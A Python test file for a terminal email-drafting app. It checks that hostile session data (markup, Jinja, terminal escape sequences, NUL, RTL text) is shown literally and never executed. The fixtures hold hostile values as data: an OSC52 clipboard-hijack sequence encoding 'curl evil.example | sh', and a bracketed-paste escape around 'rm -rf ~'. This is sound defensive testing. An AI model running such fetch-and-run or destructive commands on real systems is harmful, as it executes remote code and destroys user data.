"""A hostile session walked through every screen by keys: markup, escapes, Jinja, NUL, RTL, huge lines, 200 people.

What the user must see: the text literally (control characters made visible or dropped, never sent to the
terminal), every screen reachable, nothing executed, and the file on disk unchanged by merely looking.
"""

from __future__ import annotations

import html
from datetime import timedelta

from followup.core import store
from followup.core.model import Draft, Interviewer
from tests.tui.conftest import make_session, write_session

MARKUP_NAME = "Dr. [b]Smith[/] [/] [link=https://evil.example]x[/link]"
JINJA_COMPANY = "Acme {{ 7*7 }} {% for x in range(3) %}loop{% endfor %}"
ESCAPES = "\x1b[2J\x1b]52;c;aGk=\x07\x00\x1b[31m"
RTL_NAME = "שלום עליכם"
COMBINING_NAME = "Zoe\u0308 Ne\u0301ve"
LONG_LINE = "word " * 20_000  # 100,000 characters, one paragraph


def hostile_session():
    session = make_session(people=())
    session.candidate.name = "Jordan [bold]Ellis[/]" + ESCAPES
    session.interview.company = JINJA_COMPANY
    session.interview.role = "Engineer" + ESCAPES
    names = [MARKUP_NAME, RTL_NAME, COMBINING_NAME] + [f"Person {i} [i]x[/i]{ESCAPES}" for i in range(197)]
    for i, name in enumerate(names):
        draft = Draft(subject=f"Thanks {{{{ 7*7 }}}} {ESCAPES}", greeting=f"Dear {name},",
                      gratitude="Thank you {% if true %}yes{% endif %} " + ESCAPES)
        if i == 0:
            draft.interest = LONG_LINE
        session.interviewers.append(Interviewer(name=name, title="[red]Boss[/]", topics=["{{ config }}", ESCAPES],
                                                draft=draft))
    return session


def screen_text(app) -> str:
    """What the terminal would show, as text (from the screenshot the app exports)."""
    svg = app.export_screenshot()
    return html.unescape(svg).replace("\xa0", " ")


async def test_every_screen_shows_a_hostile_session_literally(make_app, sessions_dir):
    path = write_session(sessions_dir, "hostile.toml", hostile_session())
    before = path.read_bytes()
    app = make_app(path)
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.pause()
        seen = {}
        seen["editor"] = screen_text(app)
        await pilot.press("f5")  # preview
        await pilot.pause()
        seen["preview"] = screen_text(app)
        await pilot.press("escape", "f2")  # setup
        await pilot.pause()
        seen["setup"] = screen_text(app)
        await pilot.press("f3")  # roster
        await pilot.pause()
        seen["roster"] = screen_text(app)
        await pilot.press("f1")  # help over the roster
        await pilot.pause()
        seen["help"] = screen_text(app)
        await pilot.press("escape", "ctrl+o")  # sessions list
        await app.workers.wait_for_complete()  # its rows are read in a worker
        await pilot.pause()
        seen["sessions"] = screen_text(app)
        for name, text in seen.items():
            assert "\x1b" not in text and "\x07" not in text and "\x00" not in text, name
        assert "[b]Smith[/]" in seen["editor"]
        assert "Dear Dr. [b]Smith[/] [/]" in seen["preview"]
        assert "{{ 7*7 }}" in seen["preview"]
        assert "Acme {{ 7*7 }} {% for x in range(3) %}" in seen["setup"]
        assert "[b]Smith[/]" in seen["roster"] and RTL_NAME in seen["roster"]
        assert "Acme {{ 7*7 }}" in seen["sessions"]
        for text in seen.values():
            assert "Thanks 49" not in text and "Acme 49" not in text
    assert path.read_bytes() == before  # looking changes nothing on disk


async def test_typing_into_a_huge_hostile_draft_saves_it_intact(make_app, sessions_dir):
    path = write_session(sessions_dir, "hostile.toml", hostile_session())
    app = make_app(path)
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.pause()
        await pilot.press("ctrl+n")  # the second person's draft (right-to-left name)
        await pilot.press("end", *" ok", "ctrl+s")
        await pilot.pause()
    saved = store.load(path)
    assert saved.interviewers[0].draft.interest == LONG_LINE
    assert saved.interviewers[1].name == RTL_NAME
    assert saved.interviewers[1].draft.subject.endswith(" ok")
    assert len(saved.interviewers) == 200
    assert saved.interview.start + timedelta(hours=1, minutes=30) == saved.interview.end


# -- outside names never reach the terminal; copies carry no control characters (issue 15 #8, #9, #13) ----------

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # sets the clipboard to "curl evil.example | sh"


def _safe(text: str) -> bool:
    return not any(ch in text for ch in "\x1b\x07\x00\x9b\x9d")


async def test_a_session_file_name_with_an_escape_sequence_is_shown_cleaned(make_app, sessions_dir):
    from followup.tui.screens.dialogs import ConflictDialog

    path = write_session(sessions_dir, f"acme{OSC52}.toml", make_session())
    app = make_app(path)
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.pause()
        seen = {}
        await pilot.press("f2")  # setup: the file name is in its title
        await pilot.pause()
        seen["setup"] = screen_text(app)
        await pilot.press("f3")  # roster: the same
        await pilot.pause()
        seen["roster"] = screen_text(app)
        app.push_screen(ConflictDialog(path, arm_delay=0))
        await pilot.pause()
        seen["conflict"] = screen_text(app)
        await pilot.press("escape")
        await pilot.press("ctrl+o")  # the sessions list, then delete: the confirmation names the file
        await app.workers.wait_for_complete()  # its rows are read in a worker
        await pilot.pause()
        seen["sessions"] = screen_text(app)
        await pilot.press("f8")
        await pilot.pause()
        seen["delete"] = screen_text(app)
        await pilot.press("n")
    for name, text in seen.items():
        assert _safe(text), name
        assert "acme]52;c;Y3Vy" in text, name  # shown, as harmless text


async def test_a_theme_named_with_an_escape_or_markup_is_skipped_and_named_safely(make_app, home):
    folder = home / "themes"
    folder.mkdir()
    escaped = OSC52.replace("\x1b", "\\u001b").replace("\x07", "\\u0007")  # as TOML writes them
    (folder / "osc.toml").write_text('name = "night' + escaped + '"\nprimary = "#336699"\n')
    (folder / "markup.toml").write_text('name = "[b]bold[/b] [link=https://evil.example]x[/link]"\nprimary = "#336699"\n')
    (folder / "fine.toml").write_text('name = "fine night"\nprimary = "#336699"\n')
    app = make_app()
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.pause()
        assert "fine night" in app.available_themes
        assert not any("]52;" in name or "[b]" in name for name in app.available_themes)
        notes = [str(n.message) for n in app._notifications]
        assert sum("osc.toml" in note for note in notes) == 1 and all(_safe(note) for note in notes)
        await pilot.press("ctrl+p")  # the palette lists the themes
        await pilot.pause()
        await pilot.press(*"night")
        await pilot.pause()
        assert _safe(screen_text(app))


async def test_a_theme_with_one_bad_variable_or_a_built_in_name_is_skipped_and_the_app_starts(make_app, home):
    folder = home / "themes"
    folder.mkdir()
    (folder / "followup-dark.toml").write_text(  # named like the default theme, with a value the CSS cannot use
        'name = "followup-dark"\nprimary = "#336699"\n[variables]\nborder-blurred = "notacolour"\n')
    (folder / "styled.toml").write_text(
        'name = "styled"\nprimary = "#336699"\n[variables]\nblock-cursor-text-style = "zigzag"\n')
    (folder / "good.toml").write_text(
        'name = "good"\nprimary = "#336699"\n[variables]\nblock-cursor-text-style = "b reverse"\n'
        'border-blurred = "#444444"\n')
    (home / "config.toml").write_text('theme = "styled"\n')
    app = make_app()
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.pause()
        assert app.theme == "followup-dark" and app.current_theme.primary == "#5fafd7"  # the built-in one
        assert "styled" not in app.available_themes and "good" in app.available_themes
        notes = [str(n.message) for n in app._notifications]
        assert any("followup-dark.toml" in n and "border-blurred: not a colour" in n for n in notes)
        assert any("styled.toml" in n and "block-cursor-text-style: not a text style" in n for n in notes)
        app.theme = "good"  # picking a validated theme restyles without a crash
        await pilot.pause()
        assert app.theme == "good"


async def test_copies_carry_no_control_characters(make_app, sessions_dir):
    session = make_session()
    draft = session.interviewers[0].draft
    draft.gratitude = "Thank you.\x1b[201~\nrm -rf ~\n\x1b]52;c;eA==\x07 and\x00 more\x9b"
    path = write_session(sessions_dir, "s.toml", session)
    app = make_app(path)
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.pause()
        await pilot.press("f5")  # preview
        await pilot.pause()
        copies = []
        for key in ("f9", "ctrl+y"):  # the body, then the whole email
            await pilot.press(key)
            await pilot.pause()
            copies.append(app.clipboard)
    for text in copies:
        assert "[201~" in text and "rm -rf ~" in text  # the text itself is kept
        assert _safe(text) and "\x1b" not in text


async def test_a_date_at_the_calendars_edge_in_setup_is_refused_beside_the_field(make_app, sessions_dir):
    from followup.tui.screens.setup import SetupScreen, parse_date

    path = write_session(sessions_dir, "s.toml", make_session())
    before = store.load(path).interview.start
    app = make_app(path)
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.pause()
        await pilot.press("f2")
        await pilot.pause()
        assert isinstance(app.screen, SetupScreen)
        app.set_focus(app.screen.query_one("#start-date"))
        await pilot.press("ctrl+a", "ctrl+k", *"9999-12-31")
        await pilot.pause()
        assert "outside 1970-2200" in str(app.screen.query_one("#start-date-note").render())
        assert app.workspace.session.interview.start == before  # not taken: the editor never sees it
        await pilot.press("f4")  # the editor still opens and scores
        await pilot.pause()
    for text in ("0001-01-01", "1969-12-31", "2201-01-01"):
        try:
            parse_date(text)
        except ValueError as exc:
            assert "outside 1970-2200" in str(exc)
        else:
            raise AssertionError(text)
    assert parse_date("2200-12-31").year == 2200


async def test_opening_a_file_whose_draft_number_is_out_of_range_does_not_rewrite_it(make_app, sessions_dir):
    from followup.core.model import AppState

    session = make_session()
    session.app = AppState(interviewer=99, section="subject")
    path = write_session(sessions_dir, "s.toml", session)
    before = path.read_bytes()
    app = make_app(path)
    async with app.run_test(size=(80, 24)) as pilot:
        await pilot.pause()
        await app.workers.wait_for_complete()
        await pilot.pause()
        assert app.workspace.session.app.interviewer == 1  # the last draft is shown
        await pilot.press("ctrl+q")  # quitting saves whatever is pending: nothing is
        await pilot.pause()
    assert path.read_bytes() == before
